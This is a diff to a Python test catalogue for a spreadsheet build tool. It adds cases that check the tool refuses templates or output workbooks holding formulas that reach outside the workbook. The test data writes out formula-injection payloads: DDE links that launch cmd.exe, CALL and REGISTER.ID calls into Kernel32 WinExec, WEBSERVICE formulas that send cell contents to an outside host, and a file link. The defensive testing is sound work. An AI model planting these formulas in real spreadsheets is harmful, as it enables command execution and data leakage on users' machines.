@@ -456,6 +456,44 @@ def _formula_without_a_saved_result(w: World):
     return w.build(data=path), f"{path} [Sheet]: cell C3, column 'numerator'"
 
 
+# ----- templates carrying formulas that reach outside the workbook (round two)
+
+ACTIVE_FORMULAS = {
+    "dde-cmd": ("=cmd|' /C calc'!A0", "is a DDE link"),
+    "dde-msexcel": ("=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc'!''", "is a DDE link"),
+    "webservice": ('=WEBSERVICE("https://example.invalid/?"&A1)', "calls WEBSERVICE"),
+    "filterxml": ('=FILTERXML(WEBSERVICE("https://example.invalid"),"//a")', "calls"),
+    "rtd": ('=RTD("progid",,"topic")', "calls RTD"),
+    "call": ('=CALL("Kernel32","WinExec","JCJ","calc",0)', "calls CALL"),
+    "register-id": ('=_xlfn.REGISTER.ID("Kernel32","WinExec")', "calls REGISTER.ID"),
+    "hyperlink-file": ('=HYPERLINK("file:///C:/Users/analyst/secret.xlsx","notes")',
+                       "links to a local or network file"),
+}
+
+
+def _active_template(kind: str, role: str = "template"):
+    def make(w: World):
+        formula, _ = ACTIVE_FORMULAS[kind]
+        if role == "template":
+            path = w.dir / "inputs" / "template.xlsx"
+            path.parent.mkdir(exist_ok=True)
+            book = openpyxl.Workbook()
+            book.active.title = "Notes"
+            book.active["B4"] = formula
+            book.save(path)
+            return w.build("--template", path, out=w.dir / "out" / "new.xlsx"), str(path)
+        book = openpyxl.load_workbook(w.out)  # the analyst's own sheet in last month's workbook
+        book.create_sheet("Notes")["C2"] = formula
+        book.save(w.out)
+        return w.build(), str(w.out)
+    return make
+
+
+def _xlsm_without_macros(w: World):
+    out = w.dir / "out" / "scorecard.xlsm"
+    return w.build(out=out), str(out)
+
+
 # ----- inputs that are not regular files, and names the system refuses (round two)
 
 
@@ -698,6 +736,15 @@ CATALOGUE = [
     case("build-out-is-its-template", _build_over_its_template, "is the --template input"),
     case("batch-out-dir-holds-its-data", _batch_over_its_data, "is the --data input"),
     case("pdf-out-is-the-workbook", _pdf_over_its_workbook, "is the workbook to print"),
+    # ----- formulas that reach outside the workbook, in a template or the existing --out
+    *[case(f"template-with-{kind}", _active_template(kind), "holds formulas that reach outside",
+           f"Notes!B4 {ACTIVE_FORMULAS[kind][1]}", "delete them in Excel")
+      for kind in ACTIVE_FORMULAS],
+    case("existing-out-with-webservice", _active_template("webservice", role="out"),
+         "Notes!C2 calls WEBSERVICE"),
+    case("existing-out-with-dde", _active_template("dde-cmd", role="out"), "Notes!C2 is a DDE link"),
+    case("xlsm-out-without-macros", _xlsm_without_macros,
+         "an .xlsm is a macro-enabled workbook, but there are no macros to keep"),
     # ----- not regular files; names too long for the system
     *[case(f"{role}-is-{name}", _special(role, special), "is not a regular file",
            "give the path of a saved")
